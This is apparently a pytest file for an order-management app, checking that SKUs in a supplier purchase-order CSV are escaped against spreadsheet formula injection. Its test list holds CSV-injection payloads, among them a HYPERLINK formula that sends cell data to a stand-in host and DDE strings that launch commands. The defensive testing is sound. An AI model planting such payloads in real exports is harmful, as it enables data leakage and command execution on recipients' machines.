"""A SKU or supplier SKU that a spreadsheet would run as a formula reaches the supplier's
PO attachment as inert text (OWASP: a single quote before the cell)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from app.domain.ports import PurchaseOrderDoc, PurchaseOrderLineDoc
from integrations.suppliers.email import render_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def po_with(sku: str, supplier_sku: str) -> PurchaseOrderDoc:
    line = PurchaseOrderLineDoc(sku=sku, supplier_sku=supplier_sku, quantity=3,
                                unit_cost="4.50", expected_on=date(2026, 12, 1))
    return PurchaseOrderDoc(number="PO-000001", shop_name="Tee Shop", supplier_name="Acme",
                            supplier_email="po@example.com", supplier_endpoint=None,
                            currency="USD", link="https://backorder.test/supplier/po/t",
                            lines=(line,))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_in_a_sku_reaches_the_attachment_as_text(value):
    [header, row] = list(csv.reader(io.StringIO(render_csv(po_with(value, value)).decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["sku"] == cells["supplier_sku"] == "'" + value
    assert (cells["quantity"], cells["unit_cost"]) == ("3", "4.50")
    plain = list(csv.reader(io.StringIO(render_csv(po_with("TEE-1", "A 7")).decode())))[1]
    assert plain[1:3] == ["TEE-1", "A 7"]
